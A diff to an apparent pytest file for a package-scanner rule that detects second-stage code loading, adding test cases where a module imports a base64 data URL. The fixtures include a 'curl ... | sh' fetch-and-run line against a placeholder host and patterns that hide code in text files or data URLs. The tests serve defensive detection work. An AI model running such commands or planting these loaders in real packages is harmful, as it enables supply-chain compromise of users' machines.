@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from base64 import b64encode
+
 import pytest
 
 from assay.rules import fetch_001_second_stage
@@ -13,6 +15,7 @@ FETCHED = """
     })
 """
 SHELL = "curl -s https://x.example.invalid/p | sh\n"
+IN_NAME = f"data:text/javascript;base64,{b64encode(FETCHED.encode()).decode()}"
 RULE = fetch_001_second_stage.RULE
 
 
@@ -32,6 +35,9 @@ def at_install(line: str) -> dict[str, object]:
         ({"run.txt": FETCHED}, {"exports": {"./x": {"node": "./run.txt"}}}),
         ({"index.js": "eval(require('fs').readFileSync(__dirname + '/a.txt', 'utf8'))", "a.txt": FETCHED}, {}),
         ({"test/s.js": FETCHED}, {"exports": {"./*": "./test/*"}}),
+        ({"index.mjs": f"import '{IN_NAME}'"}, {"main": "index.mjs"}),
+        ({"index.mjs": f"export * from '{IN_NAME}'"}, {"main": "index.mjs"}),
+        ({"index.mjs": f"import x from '{IN_NAME}'; x()"}, {"main": "index.mjs"}),
     ],
 )
 def test_what_is_loaded_is_code_whatever_its_name(files: dict[str, str], fields: dict[str, object]) -> None:
